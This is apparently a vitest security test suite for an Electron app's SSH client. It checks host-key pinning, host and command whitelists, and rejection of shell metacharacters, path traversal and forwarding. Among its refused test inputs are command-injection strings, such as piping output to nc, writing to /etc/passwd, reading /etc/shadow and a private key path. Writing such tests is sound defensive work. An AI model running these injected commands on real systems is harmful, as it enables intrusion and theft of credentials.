import { mkdtemp, readdir, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SshCapability, SshOutcome } from '../../electron/common/ssh-capability';
import { createSshClient, identityFromFile, type SshClientOptions } from '../../electron/main/host/ssh';
import type { SshHostPolicy } from '../../electron/main/policy/types';
import { fileOf, generateEd25519, startSshTestServer, writeClientKey, type ClientKey, type SshTestServer } from '../helpers/ssh-test-server';

/**
 * SSH refusals that must hold against a real server (issue #4): a changed host key stops the
 * connection before authentication, so nothing is sent and nothing runs; unknown hosts, commands
 * off the whitelist and shell metacharacters never reach the server; agent and port forwarding
 * are never requested, and channels the server tries to open towards us are rejected.
 */

let keyDir: string;
let key: ClientKey;
let server: SshTestServer;

beforeAll(async () => {
  keyDir = await mkdtemp(path.join(os.tmpdir(), 'baram-ssh-sec-'));
  key = await writeClientKey(keyDir);
  server = await startSshTestServer({ clientPublicKey: key.publicKey, files: { '/srv/a.txt': fileOf(Buffer.from('a\n')) } });
});

afterAll(async () => {
  await server.close();
  await rm(keyDir, { recursive: true, force: true });
});

function hostAt(target: SshTestServer, overrides: Partial<SshHostPolicy> = {}): SshHostPolicy {
  return {
    address: '127.0.0.1',
    port: target.port,
    user: 'ops',
    hostKey: target.fingerprint,
    commands: ['uptime', 'probe-forwarding', 'echo:*', 'df -h | head', 'ls /var/log/*.log'],
    ...overrides,
  };
}

function clientFor(hosts: Record<string, SshHostPolicy>, options: Partial<SshClientOptions> = {}): SshCapability {
  return createSshClient({
    hosts,
    identityFor: async () => identityFromFile(key.keyFile),
    maxCaptureBytes: 1024 * 1024,
    maxDownloadBytes: 1024 * 1024,
    ...options,
  });
}

const noAbort = (): AbortSignal => new AbortController().signal;

function execute(capability: SshCapability, host: string, command: string): Promise<SshOutcome> {
  return capability.execute({ host, command, timeoutMs: 10_000, signal: noAbort() });
}

/** Counters of one server before a call, to assert the call left no trace there. */
function snapshot(target: SshTestServer) {
  const r = target.record;
  return { connections: r.connections, authAttempts: r.authAttempts, sessions: r.sessions, execs: r.execs.length, inbound: r.inbound.length };
}

describe('host key pinning', () => {
  it('refuses a server whose key changed, before any authentication, exec or transfer', async () => {
    // The same host name and port, but the machine behind it now has another key (replaced
    // server, or someone in the middle). The policy still pins the old key.
    const pinnedServer = server.fingerprint;
    const impostor = await startSshTestServer({ clientPublicKey: key.publicKey, files: { '/srv/a.txt': fileOf(Buffer.from('a\n')) } });
    const localDir = await mkdtemp(path.join(os.tmpdir(), 'baram-ssh-pin-'));
    try {
      expect(impostor.fingerprint).not.toBe(pinnedServer);
      const capability = clientFor({ build01: hostAt(impostor, { hostKey: pinnedServer }) });

      const outcome = await execute(capability, 'build01', 'uptime');
      expect(outcome.kind).toBe('refused');
      if (outcome.kind !== 'refused') return;
      expect(outcome.reason).toBe('host-key-mismatch');
      // The message names both fingerprints, the key type, and what to do.
      for (const lang of ['ko', 'en'] as const) {
        expect(outcome.message[lang]).toContain(pinnedServer);
        expect(outcome.message[lang]).toContain(impostor.fingerprint);
        expect(outcome.message[lang]).toContain('ssh-ed25519');
      }
      expect(outcome.message.ko).toContain('관리자');
      expect(outcome.message.en).toContain('administrator');

      const download = await capability.download({
        host: 'build01',
        remotePath: '/srv/a.txt',
        localPath: path.join(localDir, 'a.txt'),
        timeoutMs: 10_000,
        signal: noAbort(),
      });
      expect(download).toMatchObject({ kind: 'refused', reason: 'host-key-mismatch' });

      // No effect: two TCP connections were made and key exchange ran, and that is all. The
      // server never saw a service request, an authentication attempt (so not even our user
      // name or public key), a channel, an exec or an SFTP read; nothing was written locally.
      const r = impostor.record;
      expect(r.connections).toBe(2);
      expect(r.authAttempts).toBe(0);
      expect(r.sessions).toBe(0);
      expect(r.execs).toEqual([]);
      expect(r.bytesRead.size).toBe(0);
      expect(r.inbound.filter((line) => /SERVICE_REQUEST|USERAUTH|CHANNEL_OPEN|GLOBAL_REQUEST/.test(line))).toEqual([]);
      expect(await readdir(localDir)).toEqual([]);
    } finally {
      await impostor.close();
      await rm(localDir, { recursive: true, force: true });
    }
  });

  it('accepts the pinned key (the same server, correctly pinned, runs the command)', async () => {
    const outcome = await execute(clientFor({ build01: hostAt(server) }), 'build01', 'uptime');
    expect(outcome).toMatchObject({ kind: 'exited', exitCode: 0 });
  });

  it('refuses a policy whose pinned key is not an OpenSSH SHA256 fingerprint, without connecting', async () => {
    const before = snapshot(server);
    for (const hostKey of ['', 'MD5:16:27:ac:a5:76:28:2d:36:63:1b:56:4d:eb:df:a6:48', 'SHA256:short', server.fingerprint.toLowerCase().replace('sha256:', 'sha1:')]) {
      const outcome = await execute(clientFor({ build01: hostAt(server, { hostKey }) }), 'build01', 'uptime');
      expect(outcome).toMatchObject({ kind: 'refused', reason: 'host-key-invalid' });
    }
    expect(snapshot(server)).toEqual(before);
  });
});

describe('hosts and commands are checked before anything leaves the machine', () => {
  it('refuses a host name that is not a key of ssh.hosts, listing the names that exist', async () => {
    const capability = clientFor({ build01: hostAt(server), db02: hostAt(server) });
    const before = snapshot(server);
    for (const host of ['127.0.0.1', 'build02', 'BUILD01', '__proto__', 'toString', 'constructor', '']) {
      const outcome = await execute(capability, host, 'uptime');
      expect(outcome.kind, host).toBe('refused');
      if (outcome.kind !== 'refused') continue;
      expect(outcome.reason).toBe('unknown-host');
      expect(outcome.message.ko).toContain("'build01', 'db02'");
      expect(outcome.message.en).toContain("'build01', 'db02'");
    }
    expect(snapshot(server)).toEqual(before);
  });

  it('refuses a command that is not on the host whitelist: the server receives no exec request', async () => {
    const capability = clientFor({ build01: hostAt(server) });
    const before = snapshot(server);
    for (const command of ['whoami', 'uptime -p', 'uptim', ' uptime', 'uptime ', 'df -h', 'echoes hi', 'ls /var/log/x.log']) {
      const outcome = await execute(capability, 'build01', command);
      // 'echoes hi' is not covered by 'echo:*' (a prefix ends at a word boundary).
      expect(outcome.kind, command).toBe('refused');
      if (outcome.kind !== 'refused') continue;
      expect(outcome.reason, command).toBe('command-not-allowed');
      expect(outcome.message.en).toContain("'uptime'");
    }
    expect(snapshot(server)).toEqual(before);
    expect(server.record.execs).not.toContain('whoami');
  });

  it('refuses shell metacharacters anywhere, even in a whitelisted line', async () => {
    const capability = clientFor({ build01: hostAt(server) });
    const before = snapshot(server);
    const commands = [
      'uptime; id',
      'uptime && id',
      'uptime || id',
      'uptime | nc 10.0.0.1 9',
      'uptime & id',
      'echo $(id)',
      'echo `id`',
      'echo ${HOME}',
      'echo hi > /etc/passwd',
      'echo hi < /etc/shadow',
      'echo (a)',
      'uptime\nid',
      'uptime\rid',
      'uptime\u2028id',
      'df -h | head', // whitelisted verbatim by the administrator, still refused
    ];
    for (const command of commands) {
      const outcome = await execute(capability, 'build01', command);
      expect(outcome, JSON.stringify(command)).toMatchObject({ kind: 'refused', reason: 'shell-metacharacter' });
    }
    expect(snapshot(server)).toEqual(before);
  });

  it('refuses quoting, globbing and expansion in arguments added after a whitelisted prefix', async () => {
    const capability = clientFor({ build01: hostAt(server) });
    const before = snapshot(server);
    for (const command of ['echo *', 'echo /etc/pass?d', 'echo [a]', 'echo ~/.ssh/id_rsa', "echo 'a b'", 'echo "a"', 'echo a\\ b', 'echo {a,b}', 'echo #x', 'echo !!', 'echo ^x']) {
      const outcome = await execute(capability, 'build01', command);
      expect(outcome, command).toMatchObject({ kind: 'refused', reason: 'unsafe-argument' });
    }
    for (const command of ['echo\ttab', '', ' ', 'echo \u0000', 'echo '.padEnd(5000, 'x')]) {
      const outcome = await execute(capability, 'build01', command);
      expect(outcome, JSON.stringify(command.slice(0, 20))).toMatchObject({ kind: 'refused', reason: 'invalid-command' });
    }
    expect(snapshot(server)).toEqual(before);
  });

  it('refuses download paths that are relative, contain .. or NUL, without connecting', async () => {
    const capability = clientFor({ build01: hostAt(server) });
    const before = snapshot(server);
    const base = os.tmpdir();
    for (const localPath of ['a.txt', `${base}/../etc/x`, `${base}/x/../../y`, `${base}/a\u0000b`, `${base}/`]) {
      const outcome = await capability.download({ host: 'build01', remotePath: '/srv/a.txt', localPath, timeoutMs: 5000, signal: noAbort() });
      expect(outcome, localPath).toMatchObject({ kind: 'refused', reason: 'invalid-path' });
    }
    for (const remotePath of ['', '/srv/a\u0000.txt']) {
      const outcome = await capability.download({ host: 'build01', remotePath, localPath: path.join(base, 'z.txt'), timeoutMs: 5000, signal: noAbort() });
      expect(outcome).toMatchObject({ kind: 'refused', reason: 'invalid-path' });
    }
    expect(snapshot(server)).toEqual(before);
  });
});

describe('authentication and forwarding', () => {
  it('authenticates with the public key only, and never requests agent, X11, PTY or port forwarding', async () => {
    // An agent socket in the environment must not be used (ssh2 would only use one if told).
    const previousAgent = process.env['SSH_AUTH_SOCK'];
    process.env['SSH_AUTH_SOCK'] = path.join(keyDir, 'agent.sock');
    const own = await startSshTestServer({ clientPublicKey: key.publicKey, files: { '/srv/a.txt': fileOf(Buffer.from('a\n')) } });
    const localDir = await mkdtemp(path.join(os.tmpdir(), 'baram-ssh-fwd-'));
    try {
      const capability = clientFor({ build01: hostAt(own) });
      expect(await execute(capability, 'build01', 'uptime')).toMatchObject({ kind: 'exited', exitCode: 0 });
      const probe = await execute(capability, 'build01', 'probe-forwarding');
      expect(probe).toMatchObject({ kind: 'exited', exitCode: 0 });
      const download = await capability.download({
        host: 'build01',
        remotePath: '/srv/a.txt',
        localPath: path.join(localDir, 'a.txt'),
        timeoutMs: 10_000,
        signal: noAbort(),
      });
      expect(download).toMatchObject({ kind: 'downloaded', bytes: 2 });

      const r = own.record;
      expect(r.authMethods.length).toBeGreaterThan(0);
      expect(new Set(r.authMethods)).toEqual(new Set(['publickey']));
      expect(r.forwardingRequests).toEqual([]);
      expect(r.sessionRequests).toEqual([]);
      // (A keepalive@openssh.com global request would be fine, but none is due in a test this short.)
      expect(r.inbound.filter((line) => /GLOBAL_REQUEST|tcpip|streamlocal|auth-agent|x11|pty-req|env/.test(line))).toEqual([]);
      // Channels the server tried to open towards us (reverse tunnels, X11, agent-like sockets): all refused.
      expect(r.reverseChannelResults).toEqual(['forwarded-tcpip: rejected', 'x11: rejected', 'forwarded-streamlocal: rejected']);
    } finally {
      if (previousAgent === undefined) delete process.env['SSH_AUTH_SOCK'];
      else process.env['SSH_AUTH_SOCK'] = previousAgent;
      await own.close();
      await rm(localDir, { recursive: true, force: true });
    }
  });

  it('fails with a signpost when the server does not accept our key', async () => {
    const stranger = generateEd25519();
    const capability = clientFor({ build01: hostAt(server) }, { identityFor: async () => ({ privateKey: Buffer.from(stranger.private) }) });
    const before = server.record.execs.length;
    const outcome = await execute(capability, 'build01', 'uptime');
    expect(outcome).toMatchObject({ kind: 'failed', reason: 'authentication' });
    if (outcome.kind === 'failed') expect(outcome.message.ko).toContain("'ops'");
    expect(server.record.execs.length).toBe(before);
  });

  it('refuses a host without a configured identity before connecting', async () => {
    const before = snapshot(server);
    const outcome = await execute(clientFor({ build01: hostAt(server) }, { identityFor: async () => null }), 'build01', 'uptime');
    expect(outcome).toMatchObject({ kind: 'refused', reason: 'no-identity' });
    if (outcome.kind === 'refused') expect(outcome.message.en).toContain('ssh.hosts.build01.identityFile');
    expect(snapshot(server)).toEqual(before);
  });
});
